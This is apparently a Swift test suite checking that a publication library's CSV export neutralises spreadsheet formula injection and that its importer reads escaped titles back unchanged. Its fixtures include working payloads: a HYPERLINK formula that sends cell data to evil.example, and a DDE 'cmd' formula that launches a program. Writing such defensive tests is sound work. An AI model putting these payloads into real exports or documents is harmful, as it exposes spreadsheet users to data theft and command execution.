import CSVText
import Testing
@testable import ScholarKit

/// Issue 36, item 7: titles such as `=HYPERLINK(…)` were exported as they are, and a spreadsheet
/// opening the CSV ran them. OWASP's rule: a cell starting with `=`, `+`, `-`, `@`, a tab or a
/// carriage return gets a `'` in front; Bottega's own import takes it off again.
@Suite struct CSVFormulaTests {
    static let attacks = [
        #"=HYPERLINK("http://evil.example/?"&A1,"Click")"#,
        "=cmd|' /C calc'!A0",
        "+SUM(1)",
        "@evil",
        "-2+3",
        "\tTab-led title",
        "\rCR-led title",
        // Titles that really begin with an apostrophe: they must not lose it on the way back.
        "'=1+1 is not a formula here",
        "'Tis a title",
        "''-two apostrophes",
    ]

    private func exported(_ publications: [Publication]) throws -> String {
        try PublicationExporter.export(publications, as: .csv, options: MetricsOptions(referenceYear: 2026))
    }

    @Test func formulaLikeTitlesAreWrittenWithAnApostrophe() throws {
        let text = try exported(Self.attacks.map { Publication(title: $0, authors: ["A Author"], year: 2001, citations: 3) })
        // Worked out by hand from RFC 4180 (quotes doubled) and OWASP (a ' in front).
        #expect(text.contains(#""'=HYPERLINK(""http://evil.example/?""&A1,""Click"")""#))
        #expect(text.contains(#""'=cmd|' /C calc'!A0""#))
        #expect(text.contains(#""'+SUM(1)""#) && text.contains(#""'@evil""#) && text.contains(#""'-2+3""#))
        #expect(text.contains("\"'\tTab-led title\"") && text.contains("\"'\rCR-led title\""))
        #expect(text.contains(#""''=1+1 is not a formula here""#))
        #expect(text.contains(#""'Tis a title""#), "an apostrophe before ordinary text needs none more")
        #expect(text.contains(#""'''-two apostrophes""#))
        // No quoted cell of the file starts with a formula character.
        for start in ["=", "+", "-", "@", "\t", "\r"] { #expect(!text.contains(",\"" + start), "a cell starts with \(start.debugDescription)") }
    }

    @Test func bottegaReadsItsEscapedCellsBackUnchanged() throws {
        let original = Self.attacks.enumerated().map { index, title in
            Publication(title: title, authors: ["=Mallory Evil", "B Author"], year: 2000 + index, citations: index,
                        venue: "@venue", publisher: "-Publisher", articleURL: "https://example.org/\(index)", doi: "10.1/\(index)")
        }
        let text = try exported(original)
        let readBack = try PublicationImporter.read(contents: Array(text.utf8), file: "exported.csv", format: .csv).publications
        #expect(readBack.map(\.title) == Self.attacks)
        #expect(readBack == original)
    }

    /// Every text of up to four characters drawn from the characters the rule cares about:
    /// reading what was written gives the text back, and what is written never starts a formula.
    @Test func theGuardIsUndoneExactlyForEveryShortText() {
        let alphabet: [String] = ["'", "=", "-", "@", "\t", "a", " "]
        var texts = [""]
        var frontier = [""]
        for _ in 1...4 {
            frontier = frontier.flatMap { prefix in alphabet.map { prefix + $0 } }
            texts += frontier
        }
        for text in texts {
            let written = CSVFormulaGuard.escaped(text)
            #expect(CSVFormulaGuard.unescaped(written) == text, "\(text.debugDescription) → \(written.debugDescription)")
            #expect(!["=", "+", "-", "@", "\t", "\r"].contains(written.first.map(String.init) ?? ""), "\(written.debugDescription)")
        }
    }

    /// Number cells are formatted from counts and years, which cannot be formulas; they are left
    /// as numbers so a spreadsheet still sums them.
    @Test func numberColumnsStayNumbers() throws {
        let text = try exported([Publication(title: "T", authors: ["A"], year: 1999, citations: 217)])
        let row = text.split(separator: "\r\n")[1]
        #expect(row.hasPrefix("217,"))
        #expect(row.contains(",1999,"))
    }
}
